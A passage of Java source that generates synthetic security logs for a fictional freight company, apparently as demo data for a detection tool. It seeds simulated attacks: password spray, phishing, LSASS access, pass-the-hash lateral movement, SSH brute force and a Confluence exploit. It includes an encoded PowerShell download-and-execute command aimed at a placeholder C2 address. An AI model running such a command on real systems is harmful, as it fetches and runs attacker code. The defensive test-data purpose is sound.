package dev.vigil.demo;

import static java.util.Objects.requireNonNull;

import dev.vigil.demo.DemoCompany.Host;
import dev.vigil.demo.DemoCompany.Person;
import java.io.BufferedWriter;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.DayOfWeek;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import tools.jackson.databind.json.JsonMapper;

/**
 * Writes the telemetry of Kestrel Freight ({@link DemoCompany}) in the formats real collectors produce: Windows
 * Security events as evtx_dump JSON, Sysmon through Winlogbeat, Entra ID sign-ins as a Sentinel export, firewall CEF
 * over syslog, a web proxy's CEF feed, Zeek DNS and HTTP logs from the network sensor, Linux syslog (sshd, cron, sudo
 * and Sysmon for Linux, with the year in every timestamp), and Microsoft Graph Security incidents and alerts as the
 * Graph API pages them. It also writes the company's inventory in Vigil's JSON inventory format.
 *
 * <p>Three weeks of ordinary activity (a business-hours rhythm, quieter nights and weekends, the odd failed logon)
 * carry five attacks, all on the day before the demo's day:
 * <ol>
 *   <li>04:12 a password spray against cloud sign-ins from {@value #SPRAY_SOURCE_IP}: thirty accounts fail, and the
 *       last one tried, {@value #SPRAYED_USER}, signs in;</li>
 *   <li>09:12 a phishing document on {@value #PHISHED_HOST} that runs encoded PowerShell (execution), reads LSASS
 *       memory (credential access), moves to the file server {@value #LATERAL_HOST} at 09:34 as Impacket's psexec does
 *       with svc_backup's hash (a pass-the-hash network logon, the ADMIN$ share, a randomly named service binary and
 *       service, RemCom's pipes: lateral movement) and sends 700 MB to {@value #C2_ADDRESS} (exfiltration);</li>
 *   <li>12:12 an SSH brute force against the web server web01 from {@value #SSH_ATTACKER_IP}, ending in a root
 *       login;</li>
 *   <li>13:20 Entra ID Protection reports the spray's login as unfamiliar sign-in properties (a Defender XDR incident
 *       through the Graph Security API);</li>
 *   <li>14:03 a known-exploited vulnerability (CVE-2023-22527, in CISA's KEV catalog) in the Confluence Data Center
 *       8.5.3 on {@value #EXPLOITED_HOST} in the DMZ is exploited from {@value #EXPLOIT_SOURCE_IP}: Defender raises
 *       an incident, the attacker drops a web shell, the web shell spawns shells that read the database password and
 *       upload the wiki's attachments.</li>
 * </ol>
 *
 * <p>Background volume scales with {@code scale} (1 is about 180,000 events over the three weeks; 0.05 about 9,000);
 * the company, the attacks and their timing are the same at every scale. Files are written as they are generated,
 * so any scale runs in constant memory. Everything comes from a fixed seed and the demo's day: the same day and scale
 * give the same bytes (and re-ingesting them stores nothing twice).
 */
public final class DemoOrganization {
    /** The seed every demo organization grows from. */
    public static final long SEED = 20_241_105L;
    /** Days of background telemetry before the demo's day. */
    public static final int DAYS = 21;

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String DOMAIN = DemoCompany.NETBIOS_DOMAIN;
    private static final String[] COMMON_PROCESSES = {"C:\\Windows\\System32\\svchost.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\taskhostw.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
            "C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\System32\\SearchIndexer.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"};
    private static final String[] SITES = {"outlook.office365.com", "www.google.com", "teams.microsoft.com",
            "login.microsoftonline.com", "www.linkedin.com", "www.dhl.com", "www.maersk.com", "sharepoint.com",
            "kestrelfreight.sharepoint.com", "www.bbc.co.uk", "maps.google.com", "www.ups.com", "update.kestrel.local",
            "wiki.kestrelfreight.example", "github.com", "www.tomtom.com"};
    private static final String[] APPS = {"Office 365 Exchange Online", "Microsoft Teams", "Office 365 SharePoint Online",
            "Kestrel Driver App", "My Apps"};

    /** The attacks' facts, for tests and for the demo's own summary. */
    public static final String SPRAY_SOURCE_IP = "203.0.113.50";
    public static final String SPRAYED_USER = "jamal.novak";
    public static final String PHISHED_HOST = "WS007";
    public static final String C2_ADDRESS = "198.51.100.23";
    public static final String SSH_ATTACKER_IP = "192.0.2.77";
    public static final String EXPLOITED_HOST = "wiki01";
    public static final String EXPLOIT_SOURCE_IP = "198.51.100.77";
    public static final String EXPLOITED_CVE = "CVE-2023-22527";
    /** The host the phishing intrusion moves to, and the service Impacket's psexec installs there. */
    public static final String LATERAL_HOST = "FS01";
    public static final String LATERAL_SERVICE = "BQdr";
    public static final String LATERAL_BINARY = "hKJpLxWe.exe";
    /** The Defender XDR incidents the Graph Security API reports. */
    public static final String GRAPH_EXPLOIT_INCIDENT = "2741";
    public static final String GRAPH_SIGNIN_INCIDENT = "2743";

    /** Tells how far writing has come: the file being written and the events written so far in all. */
    @FunctionalInterface
    public interface Progress {
        Progress NONE = (file, events) -> { };

        void written(String file, long events);
    }

    /** What {@link #write} produced: the telemetry to ingest, the inventory, the Graph Security API pages. */
    public record Files(List<Path> telemetry, Path inventory, Path graphAlerts, Path graphIncidents, long events) {
        public Files {
            telemetry = List.copyOf(telemetry);
        }
    }

    private final LocalDate today;
    private final double scale;
    private final DemoCompany company;
    private final ZonedDateTime attackDay;
    private long written;

    /** The demo as of {@code today} at scale 1. */
    public DemoOrganization(LocalDate today) {
        this(today, 1.0);
    }

    /**
     * @param scale the background's size relative to the default (0.05 for fast tests; 100 for tens of millions of
     *     events); the attacks do not scale
     */
    public DemoOrganization(LocalDate today, double scale) {
        this.today = requireNonNull(today, "today is null");
        if (!(scale > 0) || scale > 10_000) {
            throw new IllegalArgumentException("scale " + scale + " is out of range; use a number above 0 and up to"
                    + " 10000 (1 is the default)");
        }
        this.scale = scale;
        this.company = new DemoCompany(today, SEED);
        this.attackDay = today.minusDays(1).atStartOfDay(ZoneOffset.UTC);
    }

    public DemoCompany company() {
        return company;
    }

    /** The first day of the background telemetry. */
    public LocalDate firstDay() {
        return today.minusDays(DAYS);
    }

    /** Writes the telemetry files into the directory and returns their paths (for ingest). */
    public List<Path> writeTo(Path directory) throws IOException {
        return write(directory, Progress.NONE).telemetry();
    }

    /** Writes the telemetry, the inventory and the Graph Security pages into the directory. */
    public Files write(Path directory, Progress progress) throws IOException {
        requireNonNull(progress, "progress is null");
        java.nio.file.Files.createDirectories(directory);
        written = 0;
        List<Path> files = new ArrayList<>();
        try {
            files.add(file(directory, "windows-security.json", progress, this::securityEvents));
            files.add(file(directory, "sysmon-winlogbeat.ndjson", progress, this::sysmonEvents));
            files.add(file(directory, "signin-logs.json", progress, this::signIns));
            files.add(file(directory, "firewall-cef.log", progress, this::firewall));
            files.add(file(directory, "proxy-cef.log", progress, this::proxy));
            files.add(file(directory, "zeek-dns.log", progress, this::dns));
            files.add(file(directory, "zeek-http.log", progress, this::http));
            files.add(file(directory, "web01-auth.log", progress, this::sshd));
            files.add(file(directory, "linux-syslog.log", progress, this::linux));
        } catch (UncheckedIOException e) {
            throw e.getCause();
        }
        Path inventory = directory.resolve("inventory").resolve("kestrel-inventory.json");
        java.nio.file.Files.createDirectories(inventory.getParent());
        java.nio.file.Files.writeString(inventory, JSON.writerWithDefaultPrettyPrinter()
                .writeValueAsString(company.inventory()) + "\n", StandardCharsets.UTF_8);
        Path graph = directory.resolve("graph-security");
        java.nio.file.Files.createDirectories(graph);
        List<Map<String, Object>> incidents = graphIncidents();
        List<Object> alerts = new ArrayList<>();
        for (Map<String, Object> incident : incidents) {
            alerts.addAll((List<?>) incident.get("alerts"));
        }
        Path alertsPage = graph.resolve("alerts_v2.json");
        java.nio.file.Files.writeString(alertsPage, JSON.writerWithDefaultPrettyPrinter().writeValueAsString(
                ordered("@odata.context", "https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2",
                        "value", alerts)) + "\n", StandardCharsets.UTF_8);
        Path incidentsPage = graph.resolve("incidents.json");
        java.nio.file.Files.writeString(incidentsPage, JSON.writerWithDefaultPrettyPrinter().writeValueAsString(
                ordered("@odata.context", "https://graph.microsoft.com/v1.0/$metadata#security/incidents(alerts())",
                        "value", incidents)) + "\n", StandardCharsets.UTF_8);
        return new Files(files, inventory, alertsPage, incidentsPage, written);
    }

    /** Writes lines as a source produces them. */
    private final class Out {
        private final BufferedWriter writer;
        private final String name;
        private final Progress progress;

        Out(BufferedWriter writer, String name, Progress progress) {
            this.writer = writer;
            this.name = name;
            this.progress = progress;
        }

        void line(String line) {
            try {
                writer.write(line);
                writer.write('\n');
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            if ((++written & 0x3fff) == 0) {
                progress.written(name, written);
            }
        }
    }

    /**
     * Writes one source: {@code random} draws its background, {@code attacks} its attacks' random parts (hashes,
     * ports, process ids), so those are the same at every scale (record numbers follow the background's).
     */
    @FunctionalInterface
    private interface Source {
        void write(Out out, RandomGenerator random, RandomGenerator attacks);
    }

    private Path file(Path directory, String name, Progress progress, Source source) throws IOException {
        Path file = directory.resolve(name);
        // each source has its own generator, so one source's volume never changes another's records
        RandomGenerator random = RandomGeneratorFactory.of("L64X128MixRandom").create(SEED * 31 + name.hashCode());
        RandomGenerator attacks = RandomGeneratorFactory.of("L64X128MixRandom").create(SEED * 37 + name.hashCode());
        try (BufferedWriter writer = java.nio.file.Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            source.write(new Out(writer, name, progress), random, attacks);
        }
        progress.written(name, written);
        return file;
    }

    // --- the rhythm of the background --------------------------------------------------------------------------

    @FunctionalInterface
    private interface Tick {
        void at(ZonedDateTime time, RandomGenerator random);
    }

    /**
     * Calls {@code tick} about {@code perWorkday} times per weekday at scale 1, mostly in business hours (07:00 to
     * 19:00), a tenth as often at night and a fifth at weekends, in time order.
     */
    private void background(RandomGenerator random, double perWorkday, Tick tick) {
        ZonedDateTime start = firstDay().atStartOfDay(ZoneOffset.UTC);
        double perMinuteAtWork = perWorkday * scale / (12 * 60 + 0.1 * 12 * 60);
        for (int day = 0; day < DAYS; day++) {
            ZonedDateTime midnight = start.plusDays(day);
            boolean weekend = midnight.getDayOfWeek() == DayOfWeek.SATURDAY
                    || midnight.getDayOfWeek() == DayOfWeek.SUNDAY;
            for (int minute = 0; minute < 24 * 60; minute++) {
                int hour = minute / 60;
                double rate = perMinuteAtWork * (hour >= 7 && hour < 19 ? 1 : 0.1) * (weekend ? 0.2 : 1);
                int count = (int) rate + (random.nextDouble() < rate - (int) rate ? 1 : 0);
                for (int i = 0; i < count; i++) {
                    tick.at(midnight.plusMinutes(minute).plusSeconds(random.nextInt(60)), random);
                }
            }
        }
    }

    private static boolean workHours(ZonedDateTime time) {
        return time.getHour() >= 7 && time.getHour() < 19;
    }

    // --- Windows Security (evtx_dump shape) --------------------------------------------------------------------

    private void securityEvents(Out out, RandomGenerator random, RandomGenerator attacks) {
        long[] record = {100_000};
        List<Person> office = company.officeStaff();
        List<Host> servers = company.hosts().stream().filter(h -> h.windows() && !h.role().equals("workstation")
                && !h.role().equals("laptop")).toList();
        background(random, 2_400, (time, r) -> {
            Person user = office.get(r.nextInt(office.size()));
            String dc = r.nextInt(3) == 0 ? "DC02" : "DC01";
            int roll = r.nextInt(100);
            if (roll < 55) {
                out.line(security(time, record[0]++, 4624, dc, ordered("TargetUserName", user.name(),
                        "TargetDomainName", DOMAIN, "LogonType", "3", "IpAddress", company.addressOf(user.device()),
                        "WorkstationName", user.device(), "LogonProcessName", "Kerberos",
                        "AuthenticationPackageName", "Kerberos")));
            } else if (roll < 65) {
                Host server = servers.get(r.nextInt(servers.size()));
                out.line(security(time, record[0]++, 4624, server.name(), ordered("TargetUserName", user.name(),
                        "TargetDomainName", DOMAIN, "LogonType", "3", "IpAddress", company.addressOf(user.device()),
                        "WorkstationName", user.device(), "LogonProcessName", "Kerberos",
                        "AuthenticationPackageName", "Kerberos")));
            } else if (roll < 69) {
                // someone mistypes their password (more often first thing in the morning)
                out.line(security(time, record[0]++, 4625, dc, ordered("TargetUserName", user.name(),
                        "TargetDomainName", DOMAIN, "LogonType", "3", "IpAddress", company.addressOf(user.device()),
                        "Status", "0xc000006d", "SubStatus", "0xc000006a", "FailureReason", "%%2313")));
            } else if (roll < 72) {
                out.line(security(time, record[0]++, 4634, user.device(), ordered("TargetUserName", user.name(),
                        "TargetDomainName", DOMAIN, "LogonType", "2")));
            } else {
                out.line(security(time, record[0]++, 4688, user.device(), ordered("SubjectUserName", user.name(),
                        "SubjectDomainName", DOMAIN, "NewProcessName", COMMON_PROCESSES[r.nextInt(COMMON_PROCESSES.length)],
                        "ParentProcessName", "C:\\Windows\\explorer.exe", "CommandLine", "",
                        "TokenElevationType", "%%1938")));
            }
        });
        // Lateral movement, as Impacket's psexec leaves it on the file server: a network logon as svc_backup with the
        // NTLM hash read from LSASS (pass the hash: no key, the null SID as subject), the ADMIN$ share, the service
        // binary written there under a random name of eight letters, the service control manager's pipe, a service
        // of four random letters installed (4697 in Security, 7045 in System) and RemCom's pipes to talk to it.
        ZonedDateTime lateral = lateralStart();
        String from = company.addressOf(PHISHED_HOST);
        String port = "49817";
        String logonId = "0x3e7a1c2";
        out.line(security(lateral, record[0]++, 4624, "FS01", ordered("SubjectUserSid", "S-1-0-0",
                "SubjectUserName", "-", "SubjectDomainName", "-", "SubjectLogonId", "0x0",
                "TargetUserSid", "S-1-5-21-3623811015-3361044348-30300820-1131", "TargetUserName", "svc_backup",
                "TargetDomainName", DOMAIN, "TargetLogonId", logonId, "LogonType", 3, "LogonProcessName", "NtLmSsp ",
                "AuthenticationPackageName", "NTLM", "WorkstationName", PHISHED_HOST,
                "LogonGuid", "{00000000-0000-0000-0000-000000000000}", "TransmittedServices", "-",
                "LmPackageName", "NTLM V2", "KeyLength", 0, "ProcessId", "0x0", "ProcessName", "-",
                "IpAddress", from, "IpPort", port, "ImpersonationLevel", "%%1833")));
        Map<String, Object> subject = ordered("SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1131",
                "SubjectUserName", "svc_backup", "SubjectDomainName", DOMAIN, "SubjectLogonId", logonId,
                "ObjectType", "File", "IpAddress", from, "IpPort", port);
        out.line(security(lateral.plusSeconds(1), record[0]++, 5140, "FS01", with(subject,
                "ShareName", "\\\\*\\ADMIN$", "ShareLocalPath", "\\??\\C:\\Windows", "AccessMask", "0x1",
                "AccessList", "%%4416\n\t\t\t\t")));
        out.line(security(lateral.plusSeconds(2), record[0]++, 5145, "FS01", with(subject,
                "ShareName", "\\\\*\\ADMIN$", "ShareLocalPath", "\\??\\C:\\Windows",
                "RelativeTargetName", LATERAL_BINARY, "AccessMask", "0x2", "AccessList", "%%4417\n\t\t\t\t",
                "AccessReason", "-")));
        out.line(security(lateral.plusSeconds(4), record[0]++, 5145, "FS01", with(subject,
                "ShareName", "\\\\*\\IPC$", "ShareLocalPath", null, "RelativeTargetName", "svcctl",
                "AccessMask", "0x12019f", "AccessList", PIPE_ACCESS, "AccessReason", "-")));
        out.line(security(lateral.plusSeconds(5), record[0]++, 4697, "FS01", ordered(
                "SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1131", "SubjectUserName", "svc_backup",
                "SubjectDomainName", DOMAIN, "SubjectLogonId", logonId, "ServiceName", LATERAL_SERVICE,
                "ServiceFileName", "%systemroot%\\" + LATERAL_BINARY, "ServiceType", "0x10", "ServiceStartType", 3,
                "ServiceAccount", "LocalSystem")));
        out.line(security(lateral.plusSeconds(5), record[0]++, 7045, "FS01", ordered("ServiceName", LATERAL_SERVICE,
                "ImagePath", "%systemroot%\\" + LATERAL_BINARY, "ServiceType", "user mode service",
                "StartType", "demand start", "AccountName", "LocalSystem")));
        // RemCom's pipes: the client names them after a machine tag of four letters and its process id
        for (String pipe : List.of("RemCom_communicaton", "RemCom_stdinwHqe4120", "RemCom_stdoutwHqe4120",
                "RemCom_stderrwHqe4120")) {
            out.line(security(lateral.plusSeconds(7), record[0]++, 5145, "FS01", with(subject,
                    "ShareName", "\\\\*\\IPC$", "ShareLocalPath", null, "RelativeTargetName", pipe,
                    "AccessMask", "0x12019f", "AccessList", PIPE_ACCESS, "AccessReason", "-")));
        }
    }

    /** The rights Windows lists for opening a named pipe for reading and writing over IPC$ (access mask 0x12019f). */
    private static final String PIPE_ACCESS = "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t%%4417\n\t\t\t\t"
            + "%%4418\n\t\t\t\t%%4419\n\t\t\t\t%%4420\n\t\t\t\t%%4423\n\t\t\t\t%%4424\n\t\t\t\t";

    private static Map<String, Object> with(Map<String, Object> base, Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>(base);
        map.putAll(ordered(keysAndValues));
        return map;
    }

    private String security(ZonedDateTime time, long record, int eventId, String computer, Map<String, ?> data) {
        Map<String, Object> system = new LinkedHashMap<>();
        system.put("Provider", ordered("#attributes", ordered("Name", eventId == 7045 ? "Service Control Manager"
                : "Microsoft-Windows-Security-Auditing", "Guid", "{54849625-5478-4994-a5ba-3e3b0328c30d}")));
        system.put("EventID", eventId);
        system.put("Level", 0);
        system.put("Keywords", eventId == 4625 ? "0x8010000000000000" : "0x8020000000000000");
        system.put("TimeCreated", ordered("#attributes", ordered("SystemTime", iso(time))));
        system.put("EventRecordID", record);
        system.put("Channel", eventId == 7045 ? "System" : "Security");
        system.put("Computer", computer + "." + DemoCompany.DNS_DOMAIN);
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("System", system);
        event.put("EventData", new LinkedHashMap<>(data));
        return JSON.writeValueAsString(ordered("Event", event));
    }

    // --- Sysmon (Winlogbeat 8 shape) ---------------------------------------------------------------------------

    private void sysmonEvents(Out out, RandomGenerator random, RandomGenerator attacks) {
        long[] record = {5_000};
        List<Person> office = company.officeStaff();
        background(random, 2_000, (time, r) -> {
            Person person = office.get(r.nextInt(office.size()));
            String host = person.device();
            String user = company.userOf(host).name(); // people work on their own machine
            String image = COMMON_PROCESSES[r.nextInt(COMMON_PROCESSES.length)];
            out.line(sysmon(time, record[0]++, 1, host, ordered("Image", image, "CommandLine", "\"" + image + "\"",
                    "ParentImage", "C:\\Windows\\explorer.exe", "User", DOMAIN + "\\" + user,
                    "Hashes", "SHA256=" + hex(r, 64), "IntegrityLevel", "Medium")));
            if (r.nextInt(2) == 0) {
                out.line(sysmon(time.plusSeconds(1), record[0]++, 3, host, ordered("Image", image, "Protocol", "tcp",
                        "Initiated", "true", "SourceIp", company.addressOf(host),
                        "SourcePort", String.valueOf(49_152 + r.nextInt(10_000)),
                        "DestinationIp", "52.96." + r.nextInt(255) + "." + r.nextInt(255),
                        "DestinationPort", "443", "User", DOMAIN + "\\" + user)));
            }
            if (r.nextInt(3) == 0) {
                out.line(sysmon(time.plusSeconds(2), record[0]++, 22, host, ordered("Image", image,
                        "QueryName", SITES[r.nextInt(SITES.length)], "QueryStatus", "0")));
            }
        });
        ZonedDateTime attack = attackStart();
        String victimName = company.userOf(PHISHED_HOST).name();
        String victim = DOMAIN + "\\" + victimName;
        String script = "IEX (New-Object Net.WebClient).DownloadString('https://" + C2_ADDRESS + "/a')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        out.line(sysmon(attack, record[0]++, 1, PHISHED_HOST, ordered(
                "Image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "CommandLine", "\"WINWORD.EXE\" /n \"C:\\Users\\" + victimName + "\\Downloads\\Invoice_4471.docm\"",
                "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                "User", victim, "Hashes", "SHA256=" + hex(attacks, 64), "IntegrityLevel", "Medium")));
        out.line(sysmon(attack.plusSeconds(40), record[0]++, 1, PHISHED_HOST, ordered(
                "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "CommandLine", "powershell.exe -nop -w hidden -EncodedCommand " + encoded,
                "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "User", victim, "Hashes", "SHA256=" + hex(attacks, 64), "IntegrityLevel", "Medium")));
        out.line(sysmon(attack.plusSeconds(43), record[0]++, 3, PHISHED_HOST, ordered(
                "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Protocol", "tcp",
                "SourceIp", company.addressOf(PHISHED_HOST), "SourcePort", "51234", "DestinationIp", C2_ADDRESS,
                "DestinationPort", "443", "User", victim)));
        out.line(sysmon(attack.plusMinutes(15), record[0]++, 10, PHISHED_HOST, ordered(
                "SourceImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "TargetImage", "C:\\Windows\\System32\\lsass.exe", "GrantedAccess", "0x1010",
                "SourceUser", victim, "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|UNKNOWN(00007ffb1c2a1a2b)")));
        // the psexec client's SMB session to the file server, then the service it installed there, running as SYSTEM
        ZonedDateTime lateral = lateralStart();
        String fileServer = company.addressOf(LATERAL_HOST);
        out.line(sysmon(lateral.minusSeconds(1), record[0]++, 3, PHISHED_HOST, ordered(
                "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Protocol", "tcp",
                "Initiated", "true", "SourceIp", company.addressOf(PHISHED_HOST), "SourcePort", "49817",
                "DestinationIp", fileServer, "DestinationHostname", LATERAL_HOST + "." + DemoCompany.DNS_DOMAIN,
                "DestinationPort", "445", "User", victim)));
        String service = "C:\\Windows\\" + LATERAL_BINARY;
        String serviceGuid = guid(attacks);
        out.line(sysmon(lateral.plusSeconds(6), record[0]++, 1, LATERAL_HOST, ordered("ProcessGuid", serviceGuid,
                "ProcessId", "5128", "Image", service, "CommandLine", service, "CurrentDirectory",
                "C:\\Windows\\system32\\", "User", "NT AUTHORITY\\SYSTEM", "IntegrityLevel", "System",
                "Hashes", "SHA256=" + hex(attacks, 64), "ParentProcessGuid", guid(attacks), "ParentProcessId", "684",
                "ParentImage", "C:\\Windows\\System32\\services.exe",
                "ParentCommandLine", "C:\\Windows\\system32\\services.exe")));
        out.line(sysmon(lateral.plusSeconds(8), record[0], 1, LATERAL_HOST, ordered("ProcessGuid", guid(attacks),
                "ProcessId", "3316", "Image", "C:\\Windows\\System32\\cmd.exe", "CommandLine", "cmd.exe",
                "CurrentDirectory", "C:\\Windows\\system32\\", "User", "NT AUTHORITY\\SYSTEM",
                "IntegrityLevel", "System", "Hashes", "SHA256=" + hex(attacks, 64), "ParentProcessGuid", serviceGuid,
                "ParentProcessId", "5128", "ParentImage", service, "ParentCommandLine", service)));
    }

    private String sysmon(ZonedDateTime time, long record, int eventId, String host, Map<String, ?> data) {
        Map<String, Object> winlog = new LinkedHashMap<>();
        winlog.put("channel", "Microsoft-Windows-Sysmon/Operational");
        winlog.put("event_id", eventId);
        winlog.put("provider_name", "Microsoft-Windows-Sysmon");
        winlog.put("computer_name", host + "." + DemoCompany.DNS_DOMAIN);
        winlog.put("record_id", record);
        Map<String, Object> eventData = new LinkedHashMap<>();
        eventData.put("UtcTime", time.format(DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS")));
        eventData.putAll(data);
        winlog.put("event_data", eventData);
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("@timestamp", iso(time));
        event.put("agent", ordered("type", "winlogbeat", "version", "8.15.0"));
        event.put("winlog", winlog);
        return JSON.writeValueAsString(event);
    }

    // --- Entra ID sign-ins (Sentinel SigninLogs export) --------------------------------------------------------

    private void signIns(Out out, RandomGenerator random, RandomGenerator attacks) {
        List<Person> people = company.people();
        background(random, 700, (time, r) -> {
            Person person = people.get(r.nextInt(people.size()));
            boolean failed = r.nextInt(60) == 0;
            out.line(signIn(time, person, egress(person), failed ? "50126" : "0",
                    person.office() ? "DE" : r.nextInt(4) == 0 ? "NL" : "DE",
                    person.office() ? APPS[r.nextInt(3)] : APPS[3 + r.nextInt(2)]));
        });
        ZonedDateTime spray = attackStart().minusHours(5);
        List<Person> sprayed = company.original();
        for (int i = 0; i < sprayed.size(); i++) {
            out.line(signIn(spray.plusSeconds(i * 11L), sprayed.get(i), SPRAY_SOURCE_IP, "50126", "NL", "Azure Portal"));
        }
        // the last account on the list has the password the spray tries: one of the sprayed accounts signs in
        out.line(signIn(sprayHit(), company.person(SPRAYED_USER), SPRAY_SOURCE_IP, "0", "NL", "Azure Portal"));
    }

    /** Office staff sign in through the office's internet breakout; field staff from their phone carriers. */
    private static String egress(Person person) {
        return person.office() ? "198.18." + person.egress() + ".10"
                : "100.64." + person.egress() + "." + (10 + Math.abs(person.name().hashCode()) % 200);
    }

    private String signIn(ZonedDateTime time, Person person, String ip, String resultType, String country, String app) {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("TimeGenerated", iso(time));
        row.put("Type", "SigninLogs");
        row.put("OperationName", "Sign-in activity");
        row.put("UserPrincipalName", person.upn());
        row.put("UserDisplayName", person.displayName());
        row.put("IPAddress", ip);
        row.put("AppDisplayName", app);
        row.put("ClientAppUsed", person.office() || app.equals("Azure Portal") ? "Browser" : "Mobile Apps and Desktop clients");
        row.put("ResultType", resultType);
        row.put("ResultDescription", resultType.equals("0") ? ""
                : "Invalid username or password or Invalid on-premise username or password.");
        row.put("Location", country);
        row.put("ConditionalAccessStatus", resultType.equals("0") ? "success" : "notApplied");
        row.put("AuthenticationRequirement", person.mfaMethods().isEmpty() || ip.equals(SPRAY_SOURCE_IP)
                ? "singleFactorAuthentication" : "multiFactorAuthentication");
        return JSON.writeValueAsString(row);
    }

    // --- Firewall and proxy CEF over syslog --------------------------------------------------------------------

    private static final DateTimeFormatter BSD = DateTimeFormatter.ofPattern("MMM dd HH:mm:ss", Locale.ROOT);

    private void firewall(Out out, RandomGenerator random, RandomGenerator attacks) {
        List<Host> hosts = company.hosts().stream().filter(h -> !h.role().equals("appliance")).toList();
        background(random, 1_000, (time, r) -> {
            boolean deny = r.nextInt(6) == 0;
            String src = deny ? "45.148." + r.nextInt(255) + "." + r.nextInt(255)
                    : hosts.get(r.nextInt(hosts.size())).address();
            String dst = deny ? (r.nextBoolean() ? "10.20.0.80" : "10.30.0.20") : "52.96." + r.nextInt(255) + "." + r.nextInt(255);
            out.line(cefFirewall(time, src, dst, 40_000 + r.nextInt(20_000), deny ? (r.nextBoolean() ? 22 : 3389) : 443,
                    deny, 500 + r.nextInt(20_000), 500 + r.nextInt(90_000), deny ? 5 : 1));
        });
        ZonedDateTime exfil = attackStart().plusMinutes(40);
        out.line("<134>" + exfil.format(BSD) + " fw01 CEF:0|Palo Alto Networks|PAN-OS|11.1|allow|TRAFFIC|3|rt="
                + exfil.toInstant().toEpochMilli() + " src=" + company.addressOf(PHISHED_HOST) + " dst=" + C2_ADDRESS
                + " spt=51302 dpt=443 proto=TCP act=allow out=734003200 in=18211 cs1Label=Rule cs1=allow-web");
        // The exploit on wiki01, as the firewall's threat log sees it, then the stolen attachments leaving.
        ZonedDateTime exploit = exploitStart();
        out.line("<132>" + exploit.plusSeconds(31).format(BSD) + " fw01 CEF:0|Palo Alto Networks|PAN-OS|11.1|vulnerability"
                + "|THREAT|8|rt=" + exploit.plusSeconds(31).toInstant().toEpochMilli() + " src=" + EXPLOIT_SOURCE_IP
                + " dst=" + company.addressOf(EXPLOITED_HOST) + " spt=41877 dpt=443 proto=TCP act=alert"
                + " request=/template/aui/text-inline.vm requestMethod=POST cs1Label=Rule cs1=allow-dmz-web"
                + " cs2Label=ThreatName cs2=Atlassian Confluence Template Injection Vulnerability(" + EXPLOITED_CVE + ")");
        ZonedDateTime upload = exploit.plusMinutes(9);
        out.line(cefFirewall(upload, company.addressOf(EXPLOITED_HOST), EXPLOIT_SOURCE_IP, 53_118, 443, false,
                268_435_456, 7_304, 3));
    }

    private static String cefFirewall(ZonedDateTime time, String src, String dst, int sourcePort, int port, boolean deny,
            long out, long in, int severity) {
        return "<134>" + time.format(BSD) + " fw01 CEF:0|Palo Alto Networks|PAN-OS|11.1|" + (deny ? "deny" : "allow")
                + "|TRAFFIC|" + severity + "|rt=" + time.toInstant().toEpochMilli() + " src=" + src + " dst=" + dst
                + " spt=" + sourcePort + " dpt=" + port + " proto=TCP act=" + (deny ? "deny" : "allow") + " out=" + out
                + " in=" + in + " cs1Label=Rule cs1=" + (deny ? "block-inbound" : "allow-web");
    }

    private void proxy(Out out, RandomGenerator random, RandomGenerator attacks) {
        List<Person> office = company.officeStaff();
        background(random, 1_200, (time, r) -> {
            Person person = office.get(r.nextInt(office.size()));
            String site = SITES[r.nextInt(SITES.length)];
            if (site.endsWith(".local")) {
                site = "www.microsoft.com";
            }
            out.line(proxyLine(time, person, site, "/" + (r.nextBoolean() ? "" : "index.html"), "GET", 200,
                    300 + r.nextInt(3_000), 2_000 + r.nextInt(400_000), "Allowed", site.contains("linkedin")
                            ? "Professional Networking" : "Business and Economy"));
        });
    }

    /** A Zscaler NSS web log line in its CEF feed format. */
    private String proxyLine(ZonedDateTime time, Person person, String host, String path, String method, int status,
            long sent, long received, String action, String category) {
        return "<134>" + time.format(BSD) + " zscaler-nss CEF:0|Zscaler|NSSWeblog|6.1|" + action + "|" + action + "|3|rt="
                + time.toInstant().toEpochMilli() + " act=" + action + " app=HTTPS cat=" + category + " dhost=" + host
                + " src=" + company.addressOf(person.device()) + " suser=" + person.upn() + " requestMethod=" + method
